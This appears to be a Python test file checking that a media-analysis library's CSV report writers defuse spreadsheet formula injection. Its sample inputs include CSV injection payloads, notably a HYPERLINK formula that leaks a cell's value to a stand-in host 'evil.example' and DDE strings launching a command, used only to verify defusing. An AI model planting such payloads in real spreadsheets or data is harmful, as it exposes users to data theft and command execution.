"""CSV files written for reports cannot run formulas in a spreadsheet (OWASP, CSV injection).

Article text, titles, outlet names and user columns come from the web; a cell starting with
``=``, ``+``, ``-``, ``@``, tab or CR is a formula in Excel, LibreOffice and Google Sheets.
"""

from __future__ import annotations

import csv
import warnings

import matplotlib
import numpy as np
import pandas as pd
import pytest

import mediakit as mk
from mediakit.report._csv import defuse_formulas, is_formula, write_csv, write_parquet

matplotlib.use("Agg")

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _formula_cells(path) -> list[str]:
    """Cells a spreadsheet could run as a formula (see ``is_formula``), and not a number."""
    found = []
    for row in _cells(path):
        for cell in row:
            if is_formula(cell):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def test_text_cells_get_a_quote_and_nothing_else_changes():
    frame = pd.DataFrame({
        "text": FORMULAS + ["a = b", "ok", None],
        "score": [-0.5, 1.0, -2.0, 0.0, 3.5, -1e-9, 2.0, -7.0, np.nan],
        "mixed": pd.Series(["=x", -3, None, "y", 1.5, "@z", "-", "", "+"], dtype=object),
        "=name": ["a"] * 9,
        "when": pd.to_datetime(["2024-05-01"] * 9, utc=True),
    })
    before = frame.copy()
    out = defuse_formulas(frame)
    pd.testing.assert_frame_equal(frame, before)  # the input is not changed
    assert out["text"].tolist()[:6] == ["'" + f for f in FORMULAS]
    assert out["text"].tolist()[6:8] == ["a = b", "ok"] and pd.isna(out["text"].iloc[8])
    pd.testing.assert_series_equal(out["score"], frame["score"])  # numbers stay numbers
    assert out["mixed"].tolist()[:2] == ["'=x", -3] and out["mixed"].iloc[2] is None
    assert out["mixed"].tolist()[3:] == ["y", 1.5, "'@z", "'-", "", "'+"]
    assert list(out.columns) == ["text", "score", "mixed", "'=name", "when"]
    pd.testing.assert_series_equal(out["when"], frame["when"])


def test_a_line_break_inside_a_cell_cannot_start_a_row(tmp_path):
    # unquoted, a bare CR ends the row in a spreadsheet and "=1+1" starts the next one
    frame = pd.DataFrame({"text": ["ok\r=1+1", "ok\n@SUM(1)", "ok\r\n-1+x"], "n": [1, 2, 3]})
    path = write_csv(frame, tmp_path / "t.csv")
    assert _cells(path) == [["text", "n"], ["ok\r=1+1", "1"], ["ok\n@SUM(1)", "2"],
                            ["ok\r\n-1+x", "3"]]
    assert pd.read_csv(path)["text"].tolist() == frame["text"].tolist()


def test_a_frame_without_formulas_is_returned_unchanged():
    frame = pd.DataFrame({"outlet": ["A", "B"], "estimate": [-0.2, 0.3]})
    assert defuse_formulas(frame) is frame


def test_save_figure_data_csv_is_defused_and_data_kept(tmp_path):
    import matplotlib.pyplot as plt

    data = pd.DataFrame({"outlet": FORMULAS, "value": np.arange(len(FORMULAS)) - 3.0})
    before = data.copy()
    fig, ax = plt.subplots()
    ax.bar(range(len(data)), data["value"])
    written = mk.save_figure(fig, tmp_path / "fig", formats=("svg",), data=data)
    plt.close(fig)
    (path,) = [p for p in written if p.name.endswith(".data.csv")]
    pd.testing.assert_frame_equal(data, before)
    assert _formula_cells(path) == []
    rows = _cells(path)
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [float(r[1]) for r in rows[1:]] == data["value"].tolist()  # negatives as numbers


@pytest.mark.timeout(300)
def test_report_tables_cannot_run_formulas(tmp_path):
    base = ("The minister said the plan would start on Monday after talks in Brussels.\n"
            "Aid will arrive by the end of the month, officials said.\n")
    rows = [{"article_id": f"a{i}", "outlet": outlet, "story_id": "s1", "title": FORMULAS[0],
             "text": f"{FORMULAS[3]} was posted.\n{base}- Only outlet {i} saw it. =1+1",
             "note": FORMULAS[1]}
            for i, outlet in enumerate(["=Outlet A", "@Outlet B", "Outlet C"])]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        analysis = mk.analyze(rows, actors=False, n_boot=50, stories="given")
        before = {name: frame.copy() for name, frame in analysis.tables().items()}
        written = analysis.report(tmp_path / "out", formats=("svg",))
    tables = [p for p in written if p.suffix == ".csv"]
    assert any(p.parent.name == "tables" for p in tables)
    assert any(p.name.endswith(".data.csv") for p in tables)
    for path in tables:
        assert _formula_cells(path) == [], path.name
    articles = _cells(tmp_path / "out" / "tables" / "articles.csv")
    header = articles[0]
    assert [r[header.index("outlet")] for r in articles[1:]] == ["'=Outlet A", "'@Outlet B",
                                                                "Outlet C"]
    assert {r[header.index("note")] for r in articles[1:]} == {"'" + FORMULAS[1]}
    sentences = _cells(tmp_path / "out" / "tables" / "sentences.csv")
    texts = [r[sentences[0].index("text")] for r in sentences[1:]]
    assert "'" + FORMULAS[3] + " was posted." in texts
    # the frames in memory keep the text as read
    for name, frame in analysis.tables().items():
        pd.testing.assert_frame_equal(frame, before[name], obj=name)
    assert analysis.articles["outlet"].tolist() == ["=Outlet A", "@Outlet B", "Outlet C"]


def test_bullets_and_dashes_read_back_exactly_formulas_stay_defused(tmp_path):
    # "- text" is the news bullet: no function call, no DDE: written as it is, so pandas gets
    # back the text the offsets point into; anything that can run keeps OWASP's quote
    text = ["- Officials said the plan (announced Monday) would start soon.", "+ 3 more",
            "– an en dash", "-based on", "- =HYPERLINK(\"http://x\")", "- cmd|' /C calc'!A0",
            "-2+3", "+SUM(1)"]
    frame = pd.DataFrame({"text": text})
    path = write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(path)["text"].tolist()
    assert back[:3] == text[:3]
    assert back[3:] == ["'" + t for t in text[3:]]
    assert _formula_cells(path) == []


def test_arrow_dictionary_and_string_columns_are_defused(tmp_path):
    import pyarrow as pa

    values = ['=HYPERLINK("http://evil.example","x")', "ok", "@SUM(1)"]
    dictionary = pa.array(values).dictionary_encode()
    frame = pd.DataFrame({
        "dict": pd.Series(dictionary.to_pandas(types_mapper=pd.ArrowDtype)),
        "arrow": pd.Series(values, dtype=pd.ArrowDtype(pa.string())),
        "cat": pd.Categorical(values),
        "string": pd.Series(values, dtype="string"),
    })
    path = write_csv(frame, tmp_path / "t.csv")
    assert _formula_cells(path) == []
    rows = _cells(path)
    assert all(row[0].startswith("'=HYPERLINK") for row in rows[1:2])
    # Parquet keeps every cell exactly
    import pyarrow.parquet as pq

    back = pq.read_table(write_parquet(frame, tmp_path / "t.parquet"))
    for name in ("dict", "arrow", "cat", "string"):
        assert back.column(name).to_pylist() == values


def _check_round_trip(sentences, articles, tmp_path) -> int:
    """Every sentence read back from CSV equals its offsets' slice (formula cells keep their
    quote); from Parquet every cell is exact. Returns the number of rows starting with - or +."""
    write_csv(sentences, tmp_path / "s.csv")
    write_parquet(sentences, tmp_path / "s.parquet")
    text = articles.set_index("article_id")["text"]
    csv_back = pd.read_csv(tmp_path / "s.csv", keep_default_na=False, dtype={"article_id": str})
    for r in csv_back.itertuples():
        original = text[r.article_id][int(r.start):int(r.end)]
        assert r.text == ("'" + original if is_formula(original) else original)
    pq_back = pd.read_parquet(tmp_path / "s.parquet")
    assert pq_back["text"].tolist() == sentences["text"].tolist()
    assert [text[a][s:e] for a, s, e in zip(pq_back.article_id, pq_back.start, pq_back.end,
                                            strict=True)] == pq_back["text"].tolist()
    return int(sentences["text"].str.match(r"[-+]").sum())


def test_seed_bullets_round_trip_through_csv(seeds_sentences, seeds_articles, tmp_path):
    n_signed = _check_round_trip(seeds_sentences, seeds_articles, tmp_path)
    assert n_signed >= 1  # the seeds' bullets start with "-"
    # and none of them is defused: they are text, not formulas
    bullets = seeds_sentences[seeds_sentences["text"].str.startswith("-")]
    assert not any(is_formula(t) for t in bullets["text"])


@pytest.mark.corpora
@pytest.mark.timeout(300)
def test_sentences_csv_and_parquet_round_trip_offsets_on_a_real_corpus(tmp_path, corpora_dir):
    articles = mk.read_articles(corpora_dir / "allsides_triplets" / "articles.jsonl")
    _check_round_trip(mk.split_sentences(articles), articles, tmp_path)
